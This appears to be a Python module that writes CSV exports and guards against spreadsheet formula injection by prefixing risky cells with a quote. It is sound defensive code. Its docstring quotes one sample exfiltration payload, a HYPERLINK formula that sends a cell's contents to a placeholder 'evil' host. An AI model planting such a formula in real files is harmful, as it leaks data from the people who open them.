"""CSV output that a spreadsheet cannot execute: the one writer every CSV export of the hub goes through.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and
WPS as a formula (`=HYPERLINK("http://evil/?"&A1, "点击")`). Following OWASP's CSV-injection advice, such a
cell is written with a leading single quote, so it shows as the text it is; the quote marks that the cell
was neutralised. Numbers, and text that is exactly a plain decimal number (`-12.50`), are written as they
are: a spreadsheet reads them as numbers, never as formulas.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import Any, TextIO

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def neutralise(value: Any) -> str:
    """The text of one cell, safe to open in a spreadsheet: '' for None, a quote before a formula lead."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal | dt.date):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_LEADS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """`csv.writer` whose every cell goes through `neutralise` (headers included)."""

    def __init__(self, fh: TextIO) -> None:
        self._writer = csv.writer(fh, lineterminator="\n")

    def row(self, cells: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(c) for c in cells])

    def dict_rows(self, fields: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
        self.row(fields)
        for r in rows:
            self.row(r.get(f) for f in fields)
